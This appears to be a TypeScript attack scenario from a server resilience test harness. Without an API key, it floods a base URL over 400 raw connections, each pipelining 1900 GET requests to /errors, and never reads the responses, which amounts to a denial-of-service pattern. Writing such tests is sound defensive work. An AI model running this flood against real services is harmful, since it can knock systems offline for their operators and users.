// Without a key: thousands of requests at once on each of 400 connections, whose responses are never read.

import { runAttack } from '../attacker/attack-run.ts';
import { openRawSockets, requestHead } from '../attacker/raw-sockets.ts';

const CONNECTIONS = 400;
const REQUESTS_PER_CONNECTION = 1900;

runAttack(async ({ baseUrl }, run) => {
  const bytes = Buffer.from(requestHead('GET', '/errors').repeat(REQUESTS_PER_CONNECTION));
  await openRawSockets(run, { url: baseUrl, count: CONNECTIONS, bytes });
  await run.hold();
});
